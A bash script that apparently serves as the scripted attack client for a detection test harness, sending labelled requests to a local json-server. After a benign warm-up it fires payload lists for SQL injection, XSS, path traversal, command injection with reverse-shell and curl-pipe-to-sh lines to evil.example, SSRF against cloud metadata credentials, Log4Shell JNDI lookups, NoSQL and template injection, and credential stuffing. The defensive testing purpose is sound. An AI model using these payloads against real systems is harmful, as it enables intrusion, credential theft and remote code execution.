#!/usr/bin/env bash
# The scripted attack client of tests/attacks/capture.sh: benign warm-up, then one request per payload,
# each labelled `X-Test-Id: <class>-<n>` (score.py reads the label back from the capture).
#   client.sh BASE_URL
set -uo pipefail
BASE="$1"
TOKEN="Authorization: Bearer atk-valid-token"
N=0
# req CLASS curl-args...: one labelled request, authenticated unless the class is `unauth`/`failed_auth*`.
req() {
    local class="$1"
    shift
    N=$((N + 1))
    local auth=(-H "$TOKEN")
    case "$class" in unauth | failed_auth* | stuffing) auth=() ;; esac
    curl -s -o /dev/null -w "$class-$N %{http_code}\n" --max-time 5 -H "X-Test-Id: $class-$N" \
        -A "Mozilla/5.0 (X11; Linux x86_64) atk-client" "${auth[@]}" "$@" || echo "$class-$N curl failed"
}
# q CLASS PATH PARAM VALUE: the payload in a query parameter.
q() { req "$1" -G "$BASE$2" --data-urlencode "$3=$4"; }
# j CLASS PATH JSON: the payload in a JSON body.
j() { req "$1" -X POST "$BASE$2" -H "Content-Type: application/json" --data-binary "$3"; }
# h CLASS PATH HEADER: the payload in a request header.
h() { req "$1" "$BASE$2" -H "$3"; }

# Benign warm-up: every operation the unauthenticated calls hit sees 30 authenticated requests first.
for i in $(seq 1 30); do
    req benign "$BASE/posts"
    req benign "$BASE/posts/$(((i % 3) + 1))"
    req benign "$BASE/comments"
    req benign "$BASE/profile"
    req benign -G "$BASE/posts" --data-urlencode "title=json-server" --data-urlencode "_page=$((i % 3 + 1))"
done

while IFS= read -r p; do q sqli /posts title "$p"; done <<'P'
' OR '1'='1
1' OR 1=1--
1 UNION SELECT username, password FROM users--
1' UNION ALL SELECT NULL,NULL,NULL-- -
1; DROP TABLE posts--
1' AND SLEEP(5)--
1 AND 1=1
admin'--
1' AND extractvalue(1,concat(0x7e,version()))--
1'; WAITFOR DELAY '0:0:5'--
1' ORDER BY 3#
-1' or pg_sleep(5)--
P
j sqli /posts '{"title":"x'"'"' OR 1=1-- ","author":"a"}'
j sqli /posts '{"title":"1 UNION SELECT password FROM users","author":"a"}'

while IFS= read -r p; do q xss /posts title "$p"; done <<'P'
<script>alert(1)</script>
<img src=x onerror=alert(document.cookie)>
<svg/onload=alert(1)>
javascript:alert(1)
"><script>fetch('//evil.example/'+document.cookie)</script>
<iframe src="javascript:alert(1)"></iframe>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
'-alert(1)-'
<a href="javascript:alert(1)">x</a>
P
j xss /comments '{"body":"<script>alert(1)</script>","postId":1}'
j xss /comments '{"body":"<img src=x onerror=alert(1)>","postId":1}'

while IFS= read -r p; do q path_traversal /posts file "$p"; done <<'P'
../../../../etc/passwd
..%2f..%2f..%2f..%2fetc%2fpasswd
....//....//....//etc/passwd
..\..\..\windows\win.ini
/etc/passwd
%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow
../../../../proc/self/environ
file:///etc/passwd
../../../../../../boot.ini
..%252f..%252f..%252fetc%252fpasswd
P
req path_traversal --path-as-is "$BASE/posts/../../../../etc/passwd"
req path_traversal --path-as-is "$BASE/static/..%2f..%2f..%2fetc%2fpasswd"

while IFS= read -r p; do q command_injection /posts host "$p"; done <<'P'
127.0.0.1; cat /etc/passwd
127.0.0.1 | id
`whoami`
$(uname -a)
127.0.0.1 && curl http://evil.example/x.sh | sh
;ls -la
|nc -e /bin/sh 10.0.0.1 4444
127.0.0.1%0aid
x;sleep 5
$(wget http://evil.example/a -O /tmp/a)
P
j command_injection /posts '{"title":"a; cat /etc/passwd","author":"a"}'
j command_injection /posts '{"title":"$(whoami)","author":"a"}'

while IFS= read -r p; do q ssrf /posts url "$p"; done <<'P'
http://169.254.169.254/latest/meta-data/iam/security-credentials/
http://metadata.google.internal/computeMetadata/v1/
http://127.0.0.1:22/
http://localhost/admin
http://10.0.0.1/internal
http://[::1]/
http://0x7f000001/
gopher://127.0.0.1:6379/_INFO
http://192.168.1.1/
file:///etc/hosts
http://2130706433/
dict://localhost:11211/stats
P
j ssrf /posts '{"title":"a","webhook":"http://169.254.169.254/latest/meta-data/"}'

while IFS= read -r p; do h log4shell /posts "$p"; done <<'P'
User-Agent: ${jndi:ldap://evil.example/a}
X-Api-Version: ${jndi:rmi://evil.example:1099/x}
Referer: ${${lower:j}ndi:ldap://evil.example/b}
X-Forwarded-For: ${jndi:dns://evil.example/c}
User-Agent: ${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/d}
P
q log4shell /posts q '${jndi:ldap://evil.example/e}'
j log4shell /posts '{"title":"${jndi:ldaps://evil.example/f}","author":"a"}'
q log4shell /posts q '${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/g}'

while IFS= read -r p; do j nosql_injection /posts "$p"; done <<'P'
{"author":{"$ne":null}}
{"title":{"$gt":""}}
{"author":{"$regex":".*"}}
{"$where":"this.password.length > 0"}
{"id":{"$in":[1,2,3]},"title":{"$exists":true}}
P
req nosql_injection -G "$BASE/posts" --data-urlencode 'author[$ne]=x'
req nosql_injection -G "$BASE/posts" --data-urlencode 'title[$regex]=^a'
req nosql_injection -G "$BASE/posts" --data-urlencode 'id[$gt]=0'
q nosql_injection /posts filter '{"$where":"sleep(1000)"}'

while IFS= read -r p; do q template_injection /posts name "$p"; done <<'P'
{{7*7}}
${7*7}
<%= 7*7 %>
{{config.items()}}
{{''.__class__.__mro__[1].__subclasses__()}}
#{7*7}
${T(java.lang.Runtime).getRuntime().exec('id')}
{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
{% print(7*7) %}
*{7*7}
P
j template_injection /posts '{"title":"{{7*7}}","author":"a"}'

# Unauthenticated calls to operations seen authenticated only: nginx passes them, json-server answers 2xx.
req unauth "$BASE/posts"
req unauth "$BASE/posts/2"
req unauth "$BASE/comments"
req unauth "$BASE/profile"

# Failed-authentication bursts: a wrong bearer token (401 from nginx), then credential stuffing on
# /auth/login with rotating users (401).
for i in $(seq 1 12); do req failed_auth_a "$BASE/posts" -H "Authorization: Bearer stolen-$i"; done
sleep 2
for i in $(seq 1 15); do
    req stuffing -X POST "$BASE/auth/login" -H "Content-Type: application/json" \
        --data-binary "{\"username\":\"user$i@example.com\",\"password\":\"Summer2024!\"}"
done
